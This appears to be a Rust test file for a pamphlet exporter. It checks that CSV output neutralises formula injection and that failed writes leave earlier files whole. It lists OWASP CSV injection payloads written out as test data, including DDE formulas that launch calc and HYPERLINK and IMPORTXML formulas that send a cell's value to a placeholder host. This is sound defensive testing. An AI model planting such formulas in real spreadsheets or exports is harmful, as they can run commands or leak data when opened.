//! What pamphlet writes is safe to open and never half-replaced: CSV injection payloads
//! read back inert by Python's `csv` module; a full disk, a file-size limit or a read-only
//! output folder stops the run with a clear error and leaves the earlier outputs whole.

mod support;

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use pamphlet_check::CheckOptions;
use pamphlet_schema::{IsoDate, Question};
use support::{TODAY, content, files};

/// OWASP's CSV injection payloads, and the same starts after spaces, quotes and an
/// apostrophe, which some spreadsheets skip before deciding a cell is a formula.
const PAYLOADS: [&str; 20] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "   +1",
    "\"=1+1\"",
    "'=1+1",
    "\"'=1+1",
    " \"-1\"",
    "\t@SUM(1)",
    "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=IMPORTXML(CONCAT(\"https://example.invalid/?v=\",A1),\"//a\")",
];

/// Reads every CSV file named on the command line with Python's `csv` module and fails on
/// a cell a spreadsheet would run; prints how many cells it read and the cells as JSON.
const PYTHON_READER: &str = r#"
import csv, json, sys
cells = []
for name in sys.argv[1:]:
    with open(name, newline="", encoding="utf-8-sig") as handle:
        for row in csv.reader(handle):
            cells.extend(row)
for cell in cells:
    visible = cell.lstrip(" \"")
    if visible[:1] in ("=", "+", "-", "@", "\t", "\r"):
        sys.exit("a spreadsheet would run this cell: %r" % cell)
json.dump(cells, sys.stdout)
"#;

#[test]
fn csv_injection_payloads_read_back_by_python_are_inert_and_whole() {
    let options = CheckOptions {
        today: IsoDate::parse(TODAY).expect("a date"),
        keep_content: true,
    };
    let report = pamphlet_check::check(&[content()], &options).expect("readable");
    let mut tree = report.trees.into_iter().next().expect("one tree");
    let (_, topic) = &mut tree.topics[0];
    topic.questions = PAYLOADS
        .iter()
        .map(|payload| Question {
            text: (*payload).to_owned(),
        })
        .collect();
    topic.title = PAYLOADS[13].to_owned();
    topic.causes[0].name = PAYLOADS[15].to_owned();
    topic.treatments[0].description = PAYLOADS[4].to_owned();
    topic.symptoms[0].refers_to = vec![PAYLOADS[2].to_owned(), "thigh".to_owned()];
    let bibliography = tree.bibliography.as_mut().expect("a bibliography");
    bibliography.sources[0].title = PAYLOADS[3].to_owned();

    let exported = pamphlet_export::csv(
        &support::resolve(&tree),
        &pamphlet_export::CsvOptions { excel_bom: true },
    )
    .expect("the export");
    let folder = tempfile::tempdir().expect("a temporary folder");
    let mut names: Vec<PathBuf> = Vec::new();
    for file in exported.iter().filter(|file| file.path.ends_with(".csv")) {
        let path = folder.path().join(&file.path);
        std::fs::write(&path, &file.bytes).expect("written");
        names.push(path);
    }
    assert_eq!(names.len(), 9);
    let output = Command::new("python3")
        .arg("-c")
        .arg(PYTHON_READER)
        .args(&names)
        .output()
        .expect("python3 runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let cells: Vec<String> = serde_json::from_slice(&output.stdout).expect("the cells");
    assert!(cells.len() > 500, "{} cells", cells.len());
    // Each payload is still there, whole, behind the one apostrophe that makes it text.
    for payload in PAYLOADS {
        let neutralised = format!("'{payload}");
        assert!(
            cells.contains(&neutralised),
            "{payload:?} is not read back as {neutralised:?}"
        );
    }
    assert!(cells.contains(&format!("'{}; thigh", PAYLOADS[2])));
}

fn pamphlet(arguments: &[&str], out: &Path, prefix: &str) -> Output {
    let binary = assert_cmd::cargo::cargo_bin("pamphlet");
    Command::new("sh")
        .arg("-c")
        .arg(format!("{prefix} exec \"$@\""))
        .arg("sh")
        .arg(binary)
        .args(arguments)
        .arg("--out")
        .arg(out)
        .arg(content())
        .env("PAMPHLET_TODAY", TODAY)
        .env_remove("SOURCE_DATE_EPOCH")
        .output()
        .expect("pamphlet runs")
}

/// A first complete build into `out`, whose files a failed later run must leave whole.
fn first_build(out: &Path) -> BTreeMap<String, Vec<u8>> {
    let output = pamphlet(&["build"], out, "");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    files(out)
}

/// A second build, which prints differently (large print), that must fail at a write.
fn failing_build(out: &Path, prefix: &str, cause: &str) {
    let output = pamphlet(&["build", "--large-print"], out, prefix);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains(cause), "{stderr}");
    assert!(
        stderr.contains("files were written; every file in"),
        "{stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "one clear line: {stderr}");
}

fn assert_no_temporary_files(found: &BTreeMap<String, Vec<u8>>) {
    for name in found.keys() {
        let file = name.rsplit('/').next().unwrap_or_default();
        assert!(!file.starts_with('.'), "a temporary file was left: {name}");
    }
}

#[test]
fn a_file_size_limit_stops_the_run_and_leaves_earlier_outputs_whole() {
    // An injected write failure that needs no privileges: with SIGXFSZ ignored, writes
    // past `ulimit -f` (here 20 KB) fail with EFBIG, as a quota would.
    let scratch = tempfile::tempdir().expect("a temporary folder");
    let out = scratch.path().join("out");
    let before = first_build(&out);
    failing_build(&out, "trap '' XFSZ; ulimit -f 40;", "File too large");
    let after = files(&out);
    assert_no_temporary_files(&after);
    assert_eq!(after, before);
}

/// A small tmpfs mounted for one test and unmounted when dropped, even on failure.
struct Tmpfs(PathBuf);

impl Tmpfs {
    /// `None` where mounting is not allowed (not root, or in a container without it).
    fn mount(path: &Path, size: &str) -> Option<Tmpfs> {
        std::fs::create_dir_all(path).expect("a mount point");
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(path)
            .stderr(std::process::Stdio::null())
            .status()
            .ok()?;
        status.success().then(|| Tmpfs(path.to_path_buf()))
    }

    fn remount_read_only(&self) {
        let status = Command::new("mount")
            .args(["-o", "remount,ro"])
            .arg(&self.0)
            .status()
            .expect("mount runs");
        assert!(status.success());
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_stops_the_run_and_leaves_earlier_outputs_whole() {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    let Some(disk) = Tmpfs::mount(&scratch.path().join("disk"), "2m") else {
        // CI runs as root and must test a real full disk: there, failing to mount fails
        // the test rather than passing it unseen.
        assert!(
            std::env::var_os("CI").is_none() && !running_as_root(),
            "cannot mount a tmpfs as root or on CI, so the full-disk guarantee would go untested"
        );
        eprintln!(
            "SKIPPED: mounting a tmpfs needs root; the file-size-limit test covers write failures"
        );
        return;
    };
    let out = disk.0.join("out");
    let before = first_build(&out);
    // Fill the disk, then free 8 KB: less than any handout or topic file needs.
    let filler = disk.0.join("filler");
    let mut file = std::fs::File::create(&filler).expect("a filler file");
    let block = vec![0u8; 4096];
    while std::io::Write::write_all(&mut file, &block).is_ok() {}
    drop(file);
    let size = std::fs::metadata(&filler).expect("the filler").len();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&filler)
        .and_then(|file| file.set_len(size.saturating_sub(8192)))
        .expect("shrunk");
    failing_build(&out, "", "No space left on device");
    let after = files(&out);
    assert_no_temporary_files(&after);
    assert_eq!(after, before);
}

#[test]
fn a_read_only_output_folder_stops_the_run_and_changes_nothing() {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    // Root ignores permission bits, so a read-only mount stands in for them there.
    let mounted = Tmpfs::mount(&scratch.path().join("disk"), "2m");
    let out = match &mounted {
        Some(disk) => disk.0.join("out"),
        None => scratch.path().join("out"),
    };
    let before = first_build(&out);
    let cause = match &mounted {
        Some(disk) => {
            disk.remount_read_only();
            "Read-only file system"
        }
        None => {
            for folder in ["json/topics", "json", "csv", "pdf", ""] {
                let path = out.join(folder);
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o555))
                    .expect("read-only");
            }
            "Permission denied"
        }
    };
    failing_build(&out, "", cause);
    assert_eq!(files(&out), before);
}

/// Whether the tests run as root (user id 0), who may mount file systems.
fn running_as_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|output| String::from_utf8_lossy(&output.stdout).trim() == "0")
}
